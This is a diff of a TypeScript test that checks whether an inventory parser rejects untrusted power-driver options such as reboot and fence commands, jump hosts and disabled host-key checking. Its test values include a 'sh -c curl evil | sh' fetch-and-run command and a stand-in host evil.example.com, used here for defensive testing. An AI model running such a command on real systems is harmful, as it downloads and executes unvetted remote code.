@@ -49,7 +49,7 @@ describe('power driver options: the inventory, then environment variables, then 
   });
 
   it("refuses the inventory's own rebootCommand, configFile, jumpHost and hostKeyChecking off unless the operator trusts it (before: taken as given)", () => {
-    for (const [key, value] of [['rebootCommand', ['sh', '-c', 'curl evil | sh']], ['configFile', '/tmp/ssh_config'], ['jumpHost', 'ops@bastion.example.com'], ['hostKeyChecking', 'off']] as const) {
+    for (const [key, value] of [['rebootCommand', ['sh', '-c', 'curl evil | sh']], ['configFile', '/tmp/ssh_config'], ['jumpHost', 'ops@bastion.example.com'], ['hostKeyChecking', 'off'], ['fenceCommand', ['sh', '-c', 'curl evil | sh']], ['fenceHost', 'evil.example.com']] as const) {
       const risky = parseInventory({ ...base, drivers: { ssh: { [key]: value } } }, 'dc.yaml');
       const err = errorOf(() => powerDrivers(risky, {}));
       expect(err.code).toBe('INVENTORY_NOT_TRUSTED');
